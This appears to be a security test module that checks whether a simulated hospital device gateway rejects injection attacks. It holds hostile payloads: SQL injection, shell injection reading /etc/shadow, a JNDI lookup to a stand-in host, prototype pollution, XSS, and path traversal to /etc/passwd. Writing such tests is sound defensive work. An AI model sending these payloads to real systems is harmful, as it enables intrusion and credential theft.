import { once } from 'node:events';
import { request } from 'node:https';
import { publish } from '../gateway/players/mqtt-packets.ts';
import { RawClient } from '../gateway/players/raw-mqtt-client.ts';
import { defineAttack } from './attack.ts';
import { attackerAddress, host, stolenId, type Ward } from './ward.ts';

const at = () => new Date().toISOString();
const payloads = [
  () => `{"seq":1,"at":"${at()}","values":{"__proto__":{"isAdmin":true}}}`,
  () => `{"seq":2,"at":"${at()}","values":{"MDC_PULS_OXIM_SAT_O2":"97'; drop table finding --"}}`,
  () => `{"seq":3,"at":"${at()}","values":{"\${jndi:ldap://evil.example/a}":97}}`,
  () =>
    `{"seq":4,"at":"${at()}","values":{"MDC_PULS_OXIM_SAT_O2":{"value":97,"unit":"%; cat /etc/shadow"}}}`,
];
const paths = [
  '/api/v1/../../../../etc/passwd',
  "/api/v1/devices/x'%20or%20'1'='1",
  '/<script>alert(1)</script>',
  '/%2e%2e/%2e%2e/wardgate.yaml',
];

export default defineAttack({
  threat: 'D09',
  detector: 'injection',
  title: 'SQL, shell, HTML, look-ups and prototypes in payloads and paths',

  async run(ward) {
    const { key, cert } = await ward.credentialsOf(stolenId);
    const shown = { key, cert, localAddress: attackerAddress };
    const client = await RawClient.connected(ward.mqttPort, ward.ca, shown, { clientId: stolenId });
    for (const [index, make] of payloads.entries()) {
      client.send(publish(`devices/${stolenId}/observations`, make(), { id: index + 1 }));
      await client.next();
    }
    client.socket.destroy();
    await client.closed;
    let answered = 0;
    for (const path of paths) if ((await statusOf(ward, path)) < 400) answered += 1;
    const stored = (await ward.storedOf(stolenId)).length;
    return {
      measured: `payloads that became values at the hospital: ${stored} of ${payloads.length}; paths answered: ${answered} of ${paths.length}`,
      isAbsent: stored === 0 && answered === 0,
    };
  },
});

/** The path goes out as it is: a client of good manners would tidy it up. */
async function statusOf({ httpsPort, ca }: Ward, path: string): Promise<number> {
  const asked = request({
    host,
    port: httpsPort,
    ca,
    agent: false,
    localAddress: attackerAddress,
    path,
  });
  asked.end();
  const [answer] = await once(asked, 'response');
  answer.resume();
  await once(answer, 'end');
  return answer.statusCode;
}
